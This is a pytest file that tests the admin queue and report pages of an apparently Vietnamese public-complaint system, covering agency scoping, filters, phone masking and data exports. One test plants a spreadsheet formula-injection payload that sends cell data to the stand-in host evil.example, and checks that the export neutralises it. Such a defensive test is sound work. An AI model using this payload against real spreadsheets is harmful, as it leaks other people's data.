"""The queue and the report page: scope by agency, filters, allowed actions, contact reveal."""

from datetime import timedelta

from sqlalchemy import select, update

from backend.core.db import utcnow
from backend.reports.models import Report, ReportEvent
from tests.admin.conftest import csrf_of, login

TAN_AN = {"latitude": 12.7203, "longitude": 108.11}


async def test_an_officer_sees_only_their_agency_in_the_queue(site, site_client):
    await site.user("canbo", "officer", agency="UBND-24121")
    mine = await site.report()
    other = await site.report(**TAN_AN)
    await login(site_client, "canbo")
    page = (await site_client.get("/admin/")).text
    assert mine in page and other not in page


async def test_an_officer_cannot_open_another_agencys_report(site, site_client):
    await site.user("canbo", "officer", agency="UBND-24121")
    other = await site.report(**TAN_AN)
    await login(site_client, "canbo")
    response = await site_client.get(f"/admin/reports/{other}")
    assert response.status_code == 404


async def test_an_officer_cannot_act_on_another_agencys_report(site, site_client):
    await site.user("canbo", "officer", agency="UBND-24121")
    other = await site.report(**TAN_AN)
    await login(site_client, "canbo")
    token = await csrf_of(site_client, "/admin/")
    response = await site_client.post(f"/admin/reports/{other}/action", data={"csrf_token": token, "action": "start"})
    assert response.status_code == 404
    async with site.db() as session:
        assert await session.scalar(select(Report.status).where(Report.code == other)) == "assigned"


async def test_the_queue_filters_overdue_reports(site, site_client):
    await site.user("gs", "supervisor")
    late = await site.report()
    on_time = await site.report(**TAN_AN)
    async with site.db() as session:
        await session.execute(update(Report).where(Report.code == late).values(due_at=utcnow() - timedelta(hours=3)))
    await login(site_client, "gs")
    page = (await site_client.get("/admin/?overdue=1")).text
    assert late in page and on_time not in page
    assert "Quá hạn" in page


async def test_the_queue_finds_a_report_by_caller_phone(site, site_client):
    await site.user("gs", "supervisor")
    wanted = await site.report(phone="0905123456")
    other = await site.report(**TAN_AN)
    await login(site_client, "gs")
    page = (await site_client.get("/admin/?q=0905123456")).text
    assert wanted in page and other not in page


async def test_the_report_page_offers_an_officer_only_the_actions_of_the_status(site, site_client):
    await site.user("canbo", "officer", agency="UBND-24121")
    code = await site.report()  # routed to the ward: assigned
    await login(site_client, "canbo")
    page = (await site_client.get(f"/admin/reports/{code}")).text
    for action in ("start", "resolve", "reject", "reassign"):
        assert f'data-action="{action}"' in page
    for action in ("reopen", "close"):
        assert f'data-action="{action}"' not in page


async def test_the_hotline_gets_no_status_actions(site, site_client):
    await site.user("td", "hotline")
    code = await site.report()
    await login(site_client, "td")
    page = (await site_client.get(f"/admin/reports/{code}")).text
    assert 'data-action="' not in page


async def test_the_phone_is_masked_until_revealed_and_the_reveal_is_logged(site, site_client):
    await site.user("gs", "supervisor")
    code = await site.report(phone="0905123456", name="Nguyễn Văn A")
    await login(site_client, "gs")
    page = (await site_client.get(f"/admin/reports/{code}")).text
    assert "0905123456" not in page
    token = await csrf_of(site_client, f"/admin/reports/{code}")
    response = await site_client.post(f"/admin/reports/{code}/contact", headers={"X-CSRF-Token": token})
    assert response.json()["phone"] == "0905123456"
    async with site.db() as session:
        event = await session.scalar(select(ReportEvent).where(ReportEvent.action == "view_contact"))
    assert event is not None and not event.public


async def test_an_internal_note_is_on_the_staff_timeline_only(site, site_client):
    await site.user("gs", "supervisor")
    code = await site.report()
    await login(site_client, "gs")
    token = await csrf_of(site_client, f"/admin/reports/{code}")
    await site_client.post(f"/admin/reports/{code}/note", data={"csrf_token": token, "note": "Đã gọi cho phường"})
    assert "Đã gọi cho phường" in (await site_client.get(f"/admin/reports/{code}")).text
    assert "Đã gọi cho phường" not in (await site_client.get(f"/reports/{code}")).text


async def test_one_click_category_correction(site, site_client):
    await site.user("gs", "supervisor")
    code = await site.report()
    await login(site_client, "gs")
    token = await csrf_of(site_client, f"/admin/reports/{code}")
    response = await site_client.post(f"/admin/reports/{code}/category",
                                      data={"csrf_token": token, "category": "littering"})
    assert response.status_code == 303
    async with site.db() as session:
        report = await session.scalar(select(Report).where(Report.code == code))
    assert report.category.code == "littering"


async def test_reassigning_without_a_reason_is_refused(site, site_client):
    await site.user("gs", "supervisor")
    code = await site.report()
    await login(site_client, "gs")
    token = await csrf_of(site_client, f"/admin/reports/{code}")
    response = await site_client.post(f"/admin/reports/{code}/action", data={
        "csrf_token": token, "action": "reassign", "agency": "UBND-24163"})
    assert response.status_code == 422


async def test_merging_a_duplicate_closes_it_into_the_original(site, site_client):
    await site.user("gs", "supervisor")
    original = await site.report()
    copy = await site.report()
    await login(site_client, "gs")
    token = await csrf_of(site_client, f"/admin/reports/{copy}")
    await site_client.post(f"/admin/reports/{copy}/action", data={
        "csrf_token": token, "action": "duplicate", "original": original})
    async with site.db() as session:
        assert await session.scalar(select(Report.status).where(Report.code == copy)) == "closed"


async def test_csv_export_follows_the_filters_and_leaves_out_personal_data(site, site_client):
    await site.user("gs", "supervisor")
    code = await site.report(phone="0905123456", name="Nguyễn Văn A")
    await login(site_client, "gs")
    response = await site_client.get("/admin/export.csv?status=assigned")
    assert response.status_code == 200 and code in response.text
    assert "0905123456" not in response.text and "Nguyễn Văn A" not in response.text
    assert code not in (await site_client.get("/admin/export.csv?status=closed")).text


async def test_xlsx_export_is_a_workbook_with_the_reports(site, site_client):
    import io

    from openpyxl import load_workbook

    await site.user("gs", "supervisor")
    code = await site.report()
    await login(site_client, "gs")
    response = await site_client.get("/admin/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert next(c.value for c in sheet[2]) == code


async def test_an_exported_description_that_looks_like_a_formula_stays_text(site, site_client):
    import io

    from openpyxl import load_workbook

    planted = '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Xem ảnh vỉa hè bị lấn chiếm")'
    await site.user("gs", "supervisor")
    await site.report(description=planted)
    await login(site_client, "gs")
    sheet = load_workbook(io.BytesIO((await site_client.get("/admin/export.xlsx")).content)).active
    cells = [c for c in sheet[2] if c.value == planted]
    assert cells and all(c.data_type == "s" for c in cells)
    assert "'" + planted.replace('"', '""') in (await site_client.get("/admin/export.csv")).text


async def test_the_merge_field_suggests_only_a_report_of_the_same_category(site, site_client):
    await site.user("gs", "supervisor")
    other_kind = await site.report(description="Đổ rác thải ra lề đường", category="littering")
    code = await site.report()
    await login(site_client, "gs")
    page = (await site_client.get(f"/admin/reports/{code}")).text
    assert f'value="{other_kind}"' not in page
    same = await site.report(description="Bày hàng hóa chiếm vỉa hè", latitude=12.6648, longitude=108.097)
    page = (await site_client.get(f"/admin/reports/{code}")).text
    assert f'name="original" required placeholder="PA-…" value="{same}"' in page


async def test_the_reassign_list_starts_with_no_agency_chosen(site, site_client):
    await site.user("gs", "supervisor")
    code = await site.report()
    await login(site_client, "gs")
    page = (await site_client.get(f"/admin/reports/{code}")).text
    reassign = page[page.index('data-action="reassign"'):]
    assert reassign.index("— Chọn đơn vị —") < reassign.index("<option value=\"UBND")


async def test_sorting_by_deadline_puts_open_reports_before_closed_ones(site, site_client):
    await site.user("gs", "supervisor")
    open_one = await site.report(**TAN_AN)
    closed = await site.report()  # newer: first by the default sort
    async with site.db() as session:
        await session.execute(update(Report).where(Report.code == closed).values(
            status="closed", due_at=utcnow() - timedelta(days=30)))
    await login(site_client, "gs")
    page = (await site_client.get("/admin/?sort=due_at")).text
    assert page.index(open_one) < page.index(closed)


def test_staff_and_citizens_see_the_same_status_names():
    from admin.texts import STATUS_LABELS
    from backend.notifications.texts import status_label

    assert all(STATUS_LABELS[code] == status_label(code) for code in STATUS_LABELS)
